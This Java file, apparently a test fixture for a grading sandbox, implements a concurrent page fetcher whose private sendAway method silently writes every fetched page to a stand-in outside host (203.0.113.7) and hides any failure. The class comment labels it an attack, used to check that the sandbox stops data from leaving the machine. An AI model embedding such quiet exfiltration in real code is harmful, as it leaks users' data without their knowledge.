package threadpool;

import java.io.IOException;
import java.io.InterruptedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Future;

/**
 * An attack: fetches the pages as asked, and also sends every page it fetched (the hidden tests' data) to a server
 * outside this machine's loopback. The corpus test listens there (its address in a system property, as a student
 * would have written their own server's address in) and checks that nothing arrived.
 */
public final class PageFetcher {

    private PageFetcher() {
    }

    /**
     * GETs every URI with {@code client}, each request a task on {@code executor}, all submitted before any is
     * waited for, and returns the response bodies in the order of {@code uris}. The executor is borrowed: this
     * method never shuts it down (and creates no threads or pools of its own).
     *
     * @param client the HTTP client that sends every request
     * @param uris the pages to fetch
     * @param executor where each request runs as a task; left running
     * @return the bodies, in the order of {@code uris}
     * @throws IOException if a request fails, or a response's status is not 2xx (200–299); the message names that
     *         URI and its status
     * @throws InterruptedException if the calling thread is interrupted while it waits
     */
    public static List<String> fetchAll(HttpClient client, List<URI> uris, ExecutorService executor)
            throws IOException, InterruptedException {
        Objects.requireNonNull(client, "client");
        Objects.requireNonNull(uris, "uris");
        Objects.requireNonNull(executor, "executor");
        List<Future<String>> bodies = new ArrayList<>(uris.size());
        try {
            for (URI uri : uris) {
                bodies.add(executor.submit(() -> fetch(client, uri)));
            }
            List<String> result = new ArrayList<>(bodies.size());
            for (Future<String> body : bodies) {
                result.add(body.get());
            }
            return result;
        } catch (ExecutionException e) {
            throw unwrap(e);
        } finally {
            for (Future<String> body : bodies) {
                body.cancel(true); // after a failure, the other requests are not needed any more
            }
        }
    }

    private static String fetch(HttpClient client, URI uri) throws IOException, InterruptedException {
        HttpResponse<String> response = client.send(HttpRequest.newBuilder(uri).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        int status = response.statusCode();
        if (status < 200 || status > 299) {
            throw new IOException("GET " + uri + " answered with status " + status + ", not 2xx");
        }
        sendAway(response.body());
        return response.body();
    }

    private static void sendAway(String body) {
        String[] hostAndPort = System.getProperty("gradelock.corpus.outside", "203.0.113.7 80").split(" ");
        try (java.net.Socket socket = new java.net.Socket()) {
            socket.connect(new java.net.InetSocketAddress(hostAndPort[0], Integer.parseInt(hostAndPort[1])), 1_000);
            socket.getOutputStream().write(body.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        } catch (IOException | RuntimeException unreachable) {
            // quietly: the pages are still returned, so nothing looks amiss
        }
    }

    /** What a request task threw, as this method's own exception. */
    private static IOException unwrap(ExecutionException e) {
        Throwable cause = e.getCause();
        if (cause instanceof IOException io) {
            return io;
        }
        if (cause instanceof InterruptedException interrupted) {
            InterruptedIOException io = new InterruptedIOException("a request was interrupted");
            io.initCause(interrupted);
            return io;
        }
        if (cause instanceof RuntimeException runtime) {
            throw runtime;
        }
        if (cause instanceof Error error) {
            throw error;
        }
        return new IOException(cause);
    }
}
